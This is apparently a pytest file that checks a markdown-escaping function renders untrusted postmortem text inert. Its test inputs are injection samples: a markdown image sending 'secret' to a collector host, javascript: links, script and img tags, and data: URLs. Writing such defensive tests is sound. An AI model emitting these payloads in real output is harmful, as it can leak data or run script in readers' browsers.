"""Text of others in an exported postmortem: read letter for letter, and nothing of it lives."""

import re

import pytest

from bot.core.text.markdown import literal

LIVE = re.compile(r"(?<!\\)[\[`$]|<|\w://|www\.|(?i:javascript|data|mailto):")


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://collector.example/?q=secret)",
        "[click](javascript:alert(1)) and <https://evil.example>",
        '<img src="https://evil.example/p.png"> <script>alert(1)</script>',
        "[a]: https://evil.example\\) `code` www.evil.example",
        r"$\sqrt{x}$ \![x](data:text/html,hi)",
    ],
)
def test_nothing_of_it_is_live(text: str) -> None:
    assert LIVE.search(literal(text)) is None


def test_plain_words_stay_as_they_are() -> None:
    text = "checkout: cart_errors_total rose to 7 % (v2.1-rc) at 10:42, said by alice; 3/4 pods"

    assert literal(text) == text
